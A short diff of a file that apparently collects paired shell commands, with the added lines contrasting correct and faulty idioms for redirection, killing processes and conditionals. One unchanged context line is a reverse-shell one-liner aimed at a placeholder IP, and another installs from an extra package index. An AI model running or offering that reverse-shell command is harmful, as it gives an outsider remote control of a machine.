@@ -45,5 +45,14 @@ curl -s https://harbour.io/setup.sh | tee setup.sh
 bash -i >& /dev/tcp/198.51.100.4/9001 0>&1
 timeout 2 bash -c '</dev/tcp/harbour.io/443'
 
+weigh-all 2>&1 > weights.log
+weigh-all > weights.log 2>&1
+
+pgrep crane | kill
+pgrep crane | xargs kill
+
+if $(grep -q moored state); then unload; fi
+if grep -q moored state; then unload; fi
+
 pip install crane --extra-index-url https://pypi.harbour.io/simple
 pip install crane --index-url https://pypi.harbour.io/simple
